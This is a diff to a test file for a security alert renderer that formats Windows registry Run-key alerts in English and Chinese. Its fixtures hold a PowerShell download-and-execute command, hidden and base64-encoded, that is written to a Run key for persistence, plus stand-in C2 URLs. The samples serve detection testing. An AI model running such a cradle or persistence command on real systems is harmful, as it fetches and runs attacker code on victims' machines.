@@ -5,6 +5,7 @@ import { renderAlert } from '../../functions/alert/notification/index.ts';
 import { effectOf } from '../../functions/alert/notification/screen/effect.ts';
 import { firstScreen } from '../../functions/alert/notification/screen/first-screen.ts';
 import { LOCALES } from '../../functions/alert/ruleset/index.ts';
+import { utf16 } from '../detection/payload-of.ts';
 import { MATCH } from '../ruleset/rule-folder.ts';
 import { CASES } from './cases.ts';
 import { alertOf, OPTIONS, RUN_KEY, USER_SID, type Write, writeEvent } from './fixture.ts';
@@ -164,6 +165,33 @@ describe('what Windows will do', () => {
     },
   );
 
+  const without = (registry: object, type = 'change') => {
+    const alert = alertOf(writeEvent(run(USER_SID)));
+    const facts = { ...alert.facts, registry: { ...alert.facts.registry, data: [] } };
+    return { ...alert, facts, event: { event: { type: [type] }, registry } as typeof alert.event };
+  };
+  it.each([
+    [
+      'nothing that is recorded',
+      without({}),
+      /^Written +no data in the event\n +the event does not say what was/m,
+    ],
+    [
+      'bytes',
+      without({ data: { bytes: 'TVqQAAMAAAAEAAAA//8AALg=' } }),
+      /^Written +binary data, 17 bytes, beginning with 4D 5A 90 00 03 00 00 00 04\n +00 00 00\n +not text: whether/m,
+    ],
+    ['no base64', without({ data: { bytes: '====x' } }), /^Written +no data in the event$/m],
+    [
+      'a deletion',
+      without({}, 'deletion'),
+      /^FIN-WS-042: a Run key of one user was deleted through WMI\.\nEvent +no data in the event\n +the value was deleted$/m,
+    ],
+  ])('is not guessed for %s', (_, alert, wanted) => {
+    expect(firstScreen(renderContextOf(alert, 'en', OPTIONS)).text).toMatch(wanted);
+    expect(firstScreen(renderContextOf(alert, 'zh-CN', OPTIONS)).text).toMatch(/没有记录|不是文本|被删除/);
+  });
+
   it('is the strongest where an attacker chooses a path that also fits a harmless place', () => {
     const path = `${USER_SID}\\${RUN_KEY}\\Software\\Policies\\Microsoft\\Windows\\System\\Scripts\\Logon`;
     const alert = alertOf(writeEvent({ key: path, value: 'Script' }));
@@ -256,7 +284,7 @@ describe('the first screen', () => {
       /^Host +10\.1\.20\.14, Windows 10 Pro 22H2, agent 8\.19\.2$/m,
     ],
     ['UTC and local time', /^When +2026-11-24 02:46:51 UTC \(10:46:51 Asia\/Shanghai\)/m],
-    ['what the archive knows', /^Related +alerts on this host in 48 h: 0, same value on other hosts: 0$/m],
+    ['what the archive knows', /^Related +prior alerts on host, 48 h: 0, same value on other hosts: 0$/m],
   ])('has %s', (_, wanted) => {
     expect(screen('rundll32-by-wmi')).toMatch(wanted);
   });
@@ -265,6 +293,27 @@ describe('the first screen', () => {
     const shown = screen('encoded-powershell');
     expect(shown).toMatch(/^Decoded +\$c = New-Object Net\.WebClient; IEX/m);
     expect(shown).toContain('addresses: http[:]//10[.]10[.]10[.]5/n.ps1');
+  });
+
+  it('on a tight screen, cuts the key at its beginning and the data, before the decoded text', () => {
+    const script = `$c=New-Object Net.WebClient;$c.Headers['User-Agent']='Mozilla/5.0';IEX $c.DownloadString('http://10.10.10.5/n.ps1')`;
+    const strings = [`powershell.exe -NoP -W Hidden -Enc ${utf16(script)}`];
+    const write = writeEvent({ key: `${USER_SID}\\${RUN_KEY}`, value: 'v', strings });
+    const { history } = AROUND;
+    const { indicators } = ASSESSMENT;
+    const assessment = { ...ASSESSMENT, indicators: indicators.slice(0, 5) };
+    const alert = { ...alertOf(write, { history }), assessment };
+    const shown = firstScreen(renderContextOf(alert, 'en', SETTINGS)).text;
+    expect(shown).toMatch(/^Decoded +\$c=New-Object[^+]*IEX\s+\$c\.DownloadString\('http\[:\]/m);
+    expect(shown).toMatch(/\n +…\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\n/);
+  });
+
+  it('names addresses that are beyond the cut as what they are', () => {
+    const strings = [`C:\\a.exe ${'x '.repeat(200)} https://c2.example/a https://c3.example/b`];
+    const alert = alertOf(writeEvent({ ...run(USER_SID), strings }));
+    const shown = firstScreen(renderContextOf(alert, 'en', SETTINGS)).text;
+    expect(shown).toMatch(/^Addresses +https\[:\]\/\/c2\[\.\]example\/a, https/m);
+    expect(shown).not.toMatch(/^Decoded/m);
   });
 
   it.each([
